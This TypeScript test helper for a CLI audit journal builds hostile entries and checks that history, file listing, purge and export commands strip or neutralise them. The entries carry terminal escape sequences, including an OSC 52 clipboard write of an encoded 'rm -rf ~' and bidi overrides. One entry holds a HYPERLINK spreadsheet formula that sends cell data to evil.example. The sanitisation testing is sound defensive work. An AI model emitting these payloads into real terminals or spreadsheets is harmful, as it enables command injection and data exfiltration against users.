/**
 * An insider's journal: entries a team member wrote with terminal escapes in `file`, `actor`,
 * `purpose`, `source` and `status` (a purpose the rule refuses today still comes from a journal an
 * earlier version wrote, or from a member calling the database's append function themselves), and the
 * checks that every command showing the journal prints none of it. Shared by the local-journal and
 * the team-database tests.
 */
import { createHash } from "node:crypto"
import { appendFileSync, mkdirSync, readFileSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { AuditTrail, type Journal } from "@booster-export/journal"
import { parse } from "csv-parse/sync"
import { expect } from "vitest"
import { booster, type Result } from "./helpers.js"

/** CSV text read back by csv-parse: rows of cells, the header row first. */
const rowsOf = (text: string): Array<Array<string>> => parse(text)

/**
 * No terminal control in what a run wrote: no ESC, BEL, other C0 controls but tab and line feed,
 * DEL or C1, no payload of an escape string; no bidirectional or invisible character.
 */
export const expectNoControl = (result: Result, what = "") => {
  for (const text of [result.stdout, result.stderr]) {
    expect(text, what).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
    expect(text, what).not.toMatch(/[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]/)
    expect(text, what).not.toMatch(/52;|cm0gLXJmIH4K|pwned/)
  }
}

/**
 * OSC 52 (write the clipboard), OSC 0 (retitle the window), CSI (clear the screen, move the cursor),
 * a C1 CSI, a line erase, a right-to-left override, an isolate and a zero-width space.
 */
export const HOSTILE =
  "\u001b]52;c;cm0gLXJmIH4K\u0007\u001b]0;pwned\u001b\\\u001b[2J\u001b[H\u009b31m\r\u001b[2K\u202e\u2066\u200b"

/** A purpose an assistant wrote: a spreadsheet formula, wrapped in escapes. */
export const FORMULA_PURPOSE = `=HYPERLINK("http://evil.example/?"&A1,"ticket")${HOSTILE}`

/**
 * The hostile entries about `asyncTaskId`: a start whose actor, purpose, source and status carry
 * escapes, then a download of a real file whose name carries them (its size and SHA-256 as written,
 * so that retention would delete it), expired already.
 */
export const hostileEntries = (
  asyncTaskId: string,
  folder: string
): { readonly entries: ReadonlyArray<Journal.NewEntry>; readonly file: string } => {
  mkdirSync(folder, { recursive: true })
  const file = join(folder, `export${HOSTILE}.csv`)
  const content = "id,name\r\n1,x\r\n"
  writeFileSync(file, content, { mode: 0o600 })
  const actor = `mallory${HOSTILE}@evil`
  return {
    file,
    entries: [
      {
        at: "2026-03-01T10:00:00.000Z",
        source: `cli${HOSTILE}`,
        event: "started",
        actor,
        asyncTaskId,
        purpose: FORMULA_PURPOSE,
        brand: `CAR${HOSTILE}`,
        description: `Clients of CAR${HOSTILE}`
      },
      {
        at: "2026-03-01T10:05:00.000Z",
        source: "cli",
        event: "downloaded",
        actor,
        asyncTaskId,
        status: `COM${HOSTILE}`,
        file,
        bytes: content.length,
        sha256: createHash("sha256").update(content).digest("hex"),
        expiresAt: "2026-03-02T10:05:00.000Z"
      }
    ]
  }
}

/**
 * Appends `entry` to the local journal file at `path` as an earlier version wrote it: linked, its
 * purpose in plain text in the chain (then any text but an email or a phone number was kept).
 */
export const appendAsEarlierVersion = (path: string, entry: Journal.NewEntry) => {
  const last = readFileSync(path, "utf8").trim().split("\n").at(-1)
  const head = last === undefined ? undefined : (JSON.parse(last) as { seq: number; hash: string })
  const fields: Record<string, unknown> = { ...entry }
  appendFileSync(path, `${JSON.stringify(AuditTrail.link(head, fields))}\n`)
}

/**
 * Runs every command that shows the journal and checks the raw bytes it wrote: no escape, no
 * control, bidirectional or invisible character, no payload; what is legitimate still shown; `--json`
 * keeps the data with the control characters removed; the CSV's formula cell neutralised. A download
 * row from a team database is not this install's own download: `files` neither lists nor purges it.
 */
export const expectJournalShownClean = async (
  env: Record<string, string>,
  asyncTaskId: string,
  { ownDownload }: { readonly ownDownload: boolean }
) => {
  const commands: ReadonlyArray<ReadonlyArray<string>> = [
    ["history"],
    ["history", "--json"],
    ["files", "list"],
    ["files", "list", "--json"],
    ["files", "purge", "--older-than", "0d", "--dry-run"],
    ["files", "purge", "--older-than", "0d", "--dry-run", "--json"],
    ["tasks", "get", asyncTaskId],
    ["audit", "export"],
    ["audit", "export", "--json"],
    ["audit", "export", "--csv"]
  ]
  const results = new Map<string, Awaited<ReturnType<typeof booster>>>()
  for (const args of commands) {
    const result = await booster(args, { env })
    expect(result.code, `${args.join(" ")}: ${result.stderr}`).toBe(0)
    expectNoControl(result, args.join(" "))
    results.set(args.join(" "), result)
  }
  const out = (args: string) => results.get(args)!.stdout
  // what is legitimate is still there
  expect(out("history")).toContain(asyncTaskId)
  expect(out("history")).toMatch(/export ?\.csv/)
  if (ownDownload) {
    expect(out("files list")).toMatch(/export ?\.csv/)
    expect(out("files purge --older-than 0d --dry-run")).toMatch(/Would delete .*export ?\.csv/)
  } else {
    expect(out("files list")).not.toMatch(/export ?\.csv/)
    expect(out("files purge --older-than 0d --dry-run")).not.toMatch(/export ?\.csv/)
  }
  expect(out(`tasks get ${asyncTaskId}`)).toMatch(/file: +.*export ?\.csv/)
  expect(out("audit export")).toContain("mallory")
  // --json: the data, without the control characters
  const history = JSON.parse(out("history --json")) as Array<{ asyncTaskId: string; file?: string }>
  expect(history.find((row) => row.asyncTaskId === asyncTaskId)?.file).toMatch(/\/export\n\.csv$/)
  const audit = JSON.parse(out("audit export --json")) as Array<Record<string, unknown>>
  // (the carriage return of the line erase is a line break, kept as a JSON escape)
  expect(audit.find((row) => row.event === "started" && row.asyncTaskId === asyncTaskId)).toMatchObject({
    actor: "mallory\n@evil",
    purpose: '=HYPERLINK("http://evil.example/?"&A1,"ticket")\n'
  })
  const purged = JSON.parse(out("files purge --older-than 0d --dry-run --json")) as Array<{
    asyncTaskId: string
    path: string
    outcome: string
  }>
  if (ownDownload)
    expect(purged.find((row) => row.asyncTaskId === asyncTaskId)).toMatchObject({
      outcome: "deleted",
      path: expect.stringMatching(/\/export\n\.csv$/)
    })
  else expect(purged.find((row) => row.asyncTaskId === asyncTaskId)).toBeUndefined()
  // the CSV a data-protection officer opens: one line per entry, the formula is text
  const rows = rowsOf(out("audit export --csv"))
  const header = rows[0]!
  const started = rows.find((row) => row[header.indexOf("event")] === "started" && row.includes(asyncTaskId))!
  expect(started[header.indexOf("purpose")]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"ticket") `)
  expect(started[header.indexOf("actor")]).toBe("mallory @evil")
  return results
}
